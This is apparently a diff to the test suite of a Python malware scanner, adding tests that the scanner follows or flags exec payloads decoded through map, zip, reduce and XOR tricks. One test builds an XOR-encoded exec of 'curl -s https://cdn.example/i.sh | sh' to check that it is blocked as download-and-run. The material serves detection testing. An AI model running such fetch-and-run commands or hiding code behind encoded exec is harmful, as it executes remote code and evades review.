@@ -8,7 +8,7 @@ from scanner.errors import OverBudget
 from scanner.finding import Verdict
 from scanner.knowledge.tables import knowledge
 from scanner.limits import Budget, Limits
-from tests.hostile.scanning import scan
+from tests.hostile.scanning import blocked_for, scan
 from tests.languages.python.lowering import lowered
 
 
@@ -110,6 +110,32 @@ def test_what_is_not_run_may_be_large(use: str) -> None:
 def test_a_text_that_is_too_long_is_told_where_it_is_run() -> None:
     source = "import os\nexec('#' * (1 << 25) + chr(10) + os.sep + 'x')\n"
     assert {finding.rule for finding in scan(source, "script.py").findings} == {"incomplete-analysis"}
+
+
+DECODED = {
+    "map": "map(lambda n: chr(n ^ 7), {})",
+    "map of a built-in function": "map(chr, {})",
+    "filter": "map(chr, filter(None, {}))",
+    "zip": "(chr(a ^ b) for a, b in zip({}, itertools.cycle([7])))",
+    "enumerate": "(chr(n ^ i & 7) for i, n in enumerate({}))",
+    "reversed": "map(chr, reversed({}))",
+    "chain": "map(chr, itertools.chain({}, [10]))",
+    "reduce": "functools.reduce(lambda text, n: text + chr(n), {}, '')",
+}
+
+
+@pytest.mark.parametrize("way", DECODED.values(), ids=DECODED)
+def test_a_payload_with_more_elements_than_are_followed_is_told(way: str) -> None:
+    numbers = str([104] * 20_001)
+    source = f"import functools, itertools\nexec(''.join({way.format(numbers)}))\n"
+    assert "incomplete-analysis" in {finding.rule for finding in scan(source, "script.py").findings}
+
+
+@pytest.mark.parametrize("size", [100, 19_000])
+def test_a_payload_that_map_decodes_is_followed(size: int) -> None:
+    payload = "#" * size + "\nimport os; os.system('curl -s https://cdn.example/i.sh | sh')\n"
+    source = f"exec(''.join(map(lambda n: chr(n ^ 7), {[ord(c) ^ 7 for c in payload]})))\n"
+    assert blocked_for(scan(source, "script.py")) == {"download-and-run"}
 
 
 PATHOLOGICAL = {
